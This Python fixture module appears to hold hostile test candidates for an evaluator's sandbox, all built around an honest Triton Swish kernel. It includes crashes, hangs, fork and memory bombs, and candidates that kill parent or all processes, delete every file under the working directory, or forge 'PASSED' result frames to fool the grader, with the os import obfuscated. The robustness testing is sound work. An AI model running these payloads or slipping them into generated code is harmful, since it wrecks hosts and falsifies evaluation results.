"""Candidates that crash, hang, flood or attack whoever runs them, each by another way; honest kernels around them.

They answer the task `Swish` of the corpus. Never run one outside the evaluator's sandbox. Most are spelt so that reading
the text does not give them away: what is to be tried is what happens when they run.
"""

from __future__ import annotations

KERNEL = """
import torch
import torch.nn as nn
import triton
import triton.language as tl
{imports}

@triton.jit
def swish_kernel(x_ptr, y_ptr, n, BLOCK: tl.constexpr):
    i = tl.program_id(0) * BLOCK + tl.arange(0, BLOCK)
    m = i < n
    x = tl.load(x_ptr + i, mask=m)
    tl.store(y_ptr + i, x * tl.sigmoid(x), mask=m)


def swish(x):
    x = x.contiguous()
    y = torch.empty_like(x)
    n = x.numel()
    swish_kernel[(triton.cdiv(n, 128),)](x, y, n, BLOCK=128)
    return y

{top}

class SwishNew(nn.Module):
    def __init__(self):
        super().__init__()
{init}

    def forward(self, x):
{forward}
        return swish(x)
"""

# A module by a name that is put together, from one that is imported honestly.
_OS = 'system = next(m for n, m in vars(torch.nn.functional).items() if n == "warn" + "ings").sys.modules["o" + "s"]'


def _candidate(forward: str = "", *, top: str = "", init: str = "", imports: str = "") -> str:
    def indented(text: str) -> str:
        return "\n".join(f"        {line}" for line in (text or "pass").splitlines())

    return KERNEL.format(imports=imports, top=top, init=indented(init), forward=indented(forward))


CRASHES = {
    "aborts": _candidate(f"{_OS}\nsystem.abort()"),
    "exits": _candidate(f"{_OS}\nsystem._exit(0)"),
    "system_exit": _candidate("raise SystemExit(0)"),
    "keyboard_interrupt": _candidate("raise KeyboardInterrupt"),
    "base_exception": _candidate("class End(BaseException): pass\nraise End('x' * 100_000_000)"),
    "wild_pointer": _candidate("swish_kernel[(1,)](x.data_ptr() * 0 + 8, x, 4, BLOCK=4)"),
    "far_offset": _candidate("swish_kernel[(1,)](x, x, 1 << 60, BLOCK=1 << 16)"),
    "recursion": _candidate(top="def down(n):\n    return down(n + 1) + 1", forward="down(0)"),
    "stack_overflow": _candidate(
        "sys.setrecursionlimit(10**9)\ndown(0)",
        imports="import sys",
        top="def down(n):\n    return max([n], key=lambda v: down(v + 1))",
    ),
    "error_that_cannot_be_shown": _candidate(
        "raise Silent()", top="class Silent(Exception):\n    def __str__(self):\n        raise SystemExit(0)"
    ),
    "exit_at_import": _candidate(top="raise SystemExit(0)"),
}
HANGS = {
    "endless_loop": _candidate("while True: pass"),
    "endless_import": _candidate(top="while True: pass"),
    "endless_init": _candidate(init="while True: pass"),
    "endless_kernel": _candidate(
        "spin[(1,)](x)", top="@triton.jit\ndef spin(x):\n    i = 0\n    while i < 1:\n        i = i * 2"
    ),
    "sleeps": _candidate("time.sleep(1e6)", imports="import time"),
    "keeps_catching": _candidate(
        "while True:\n    try:\n        while True: pass\n    except BaseException: pass"
    ),
    "ignores_signals": _candidate(
        "for n in range(1, 65):\n    try: signal.signal(n, signal.SIG_IGN)\n    except (OSError, ValueError): pass\nwhile True: pass",
        imports="import signal",
    ),
    "error_that_hangs": _candidate(
        "raise Endless()", top="class Endless(Exception):\n    def __str__(self):\n        while True: pass"
    ),
    "huge_grid": _candidate("swish_kernel[(1 << 30,)](x, torch.empty_like(x), x.numel(), BLOCK=1)"),
}
BOMBS = {
    "memory": _candidate("torch.empty(1 << 36).fill_(1)"),
    "memory_in_pieces": _candidate("kept = []\nwhile True: kept.append(torch.ones(1 << 22))"),
    "lists": _candidate("kept = []\nwhile True: kept.append([0] * 100_000)"),
    "stdout": _candidate("while True: print('x' * 100_000)"),
    "stderr": _candidate("while True: sys.stderr.write('x' * 100_000)", imports="import sys"),
    "threads": _candidate(
        "def spin():\n    while True: pass\nfor _ in range(2000): threading.Thread(target=spin, daemon=True).start()",
        imports="import threading",
    ),
    "forks": _candidate(f"{_OS}\nwhile True: system.fork()"),
    "spawns": _candidate(f"{_OS}\nwhile True: system.posix_spawn('/bin/sleep', ['sleep', '1000'], {{}})"),
    "disk": _candidate("n = 0\nwhile True:\n    torch.save(torch.ones(1 << 22), f'file{n}')\n    n += 1"),
    "wide_output": _candidate("return torch.zeros(1).expand(1 << 40)"),
    "many_outputs": _candidate("return [x] * 10_000_000"),
    "endless_nesting": _candidate("kept = []\nkept.append(kept)\nreturn kept"),
    "deep_nesting": _candidate("kept = x\nfor _ in range(200_000): kept = [kept]\nreturn kept"),
    "huge_error": _candidate("raise ValueError('x' * (1 << 28))"),
}
ATTACKS = {
    "kills_parent": _candidate(f"{_OS}\nsystem.kill(system.getppid(), 9)"),
    "kills_group": _candidate(f"{_OS}\nsystem.killpg(0, 9)"),
    "kills_all": _candidate(f"{_OS}\nsystem.kill(-1, 9)"),
    "closes_files": _candidate(f"{_OS}\nsystem.closerange(0, 1 << 16)"),
    "writes_everywhere": _candidate(
        f"{_OS}\nfor fd in range(3, 256):\n    try: system.write(fd, b'\\xff' * 4096)\n    except OSError: pass"
    ),
    "reads_everywhere": _candidate(
        f"{_OS}\nfor fd in range(3, 256):\n    try: system.read(fd, 1 << 20)\n    except OSError: pass"
    ),
    "forges_frames": _candidate(
        f'{_OS}\nbody = b\'{{"ok": true, "status": "PASSED"}}\'\n'
        "for fd in range(3, 64):\n    try: system.write(fd, len(body).to_bytes(4, 'big') + body)\n    except OSError: pass"
    ),
    "removes_itself": _candidate(f"{_OS}\nsystem.remove(__file__)"),
    "removes_everything": _candidate(
        f"{_OS}\nfor top, _, files in system.walk('.'):\n    for name in files: system.remove(system.path.join(top, name))"
    ),
    "leaves_the_group": _candidate(f"{_OS}\nsystem.setsid()\nwhile True: pass"),
    "lowers_limits": _candidate("resource.setrlimit(resource.RLIMIT_AS, (1, 1))", imports="import resource"),
    "destructor": _candidate(
        "self.kept = Kept()", top="class Kept:\n    def __del__(self):\n        while True: pass"
    ),
    "tensor_that_hangs": _candidate(
        "return x.as_subclass(Slow)",
        top="class Slow(torch.Tensor):\n    @classmethod\n    def __torch_function__(cls, *a, **k):\n        while True: pass",
    ),
}
TEXTS = {
    "minus": "-" * 150_000 + "1",
    "brackets": "(" * 90_000 + ")" * 90_000,
    "attributes": "a" + ".a" * 90_000,
    "calls": "f(" * 900 + ")" * 900,
    "lambdas": "lambda: " * 20_000 + "0",
    "digits": "x = " + "9" * 190_000,
    "strings": "x = " + "'' " * 60_000,
    "operators": _candidate(top="y = " + "+".join(["1"] * 40_000)),
    "power": _candidate(top="y = 9 ** 9 ** 9 ** 9"),
    "null_bytes": "\0" * 1000,
    "fences": "```python\n" * 5_000,
    "answers": "<answer>" * 20_000,
    "blanks": "<" + " " * 20_000 + "```",
    "thoughts": "</think>" * 20_000 + "```",
    "long": "# " + "x" * 3_000_000,
    "long_line": _candidate(top="y = [" + "0, " * 40_000 + "]"),
}

HOSTILE = {
    f"{kind}:{name}": code
    for kind, found in (
        ("crash", CRASHES),
        ("hang", HANGS),
        ("bomb", BOMBS),
        ("attack", ATTACKS),
        ("text", TEXTS),
    )
    for name, code in found.items()
}
